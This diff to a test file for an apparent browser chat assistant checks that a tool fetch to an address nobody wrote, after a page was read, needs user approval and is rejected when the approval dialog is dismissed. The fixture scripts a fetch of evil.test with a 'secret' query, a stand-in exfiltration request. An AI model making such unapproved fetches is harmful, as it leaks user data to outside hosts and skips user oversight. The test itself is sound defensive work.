@@ -7,7 +7,7 @@ import { readFile } from 'node:fs/promises';
 import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
 import { setTimeout as delay } from 'node:timers/promises';
 import { crc32 } from 'node:zlib';
-import { launch } from './lib/browser.mjs';
+import { launch, PATIENCE } from './lib/browser.mjs';
 import { Chat, sure } from './lib/chat.mjs';
 import { ChatServer } from './lib/chat_server.mjs';
 import { Options } from './lib/options.mjs';
@@ -82,11 +82,11 @@ async function tabsAt(of, host, path) {
 }
 
 /** The results that a run receives for this call. */
-async function given(question, fetching, links, of = gloss) {
+async function given(question, fetching, links = [], of = gloss) {
   server.script(fetching, sure('So it is.'));
   const chat = await beside(links, of);
   // A link of the page is no permission: the user writes the addresses.
-  await chat.ask(`${question} See ${links.join(' ')} please.`);
+  await chat.ask([question, ...links].join(' '));
   await chat.settled('So it is.');
   const { content } = server.requests[1].json.messages.find(({ role }) => role === 'tool');
   return { chat, content };
@@ -297,9 +297,15 @@ describe('what its scripts say', () => {
 });
 
 describe('what is refused', () => {
-  test('an address that nobody wrote is not fetched once the page was read', async () => {
-    const { content } = await given('What is it about?', fetches([sites.url('evil.test', '/?q=secret')]));
-    assert.match(content, /needs the user's approval/);
+  test('an address that nobody wrote is not fetched once the page was read, unless it is approved', async () => {
+    server.script(fetches([sites.url('evil.test', '/?q=secret')]), sure('So it is.'));
+    const chat = await beside();
+    await chat.ask('What is it about?');
+    await chat.panel.control('dialog', 'Approve tool call').setTimeout(PATIENCE).wait();
+    await chat.page.keyboard.press('Escape');
+    await chat.settled('So it is.');
+    const { content } = server.requests[1].json.messages.find(({ role }) => role === 'tool');
+    assert.match(content, /rejected/);
     assert.equal(sites.count('/?q=secret'), 0);
   });
 
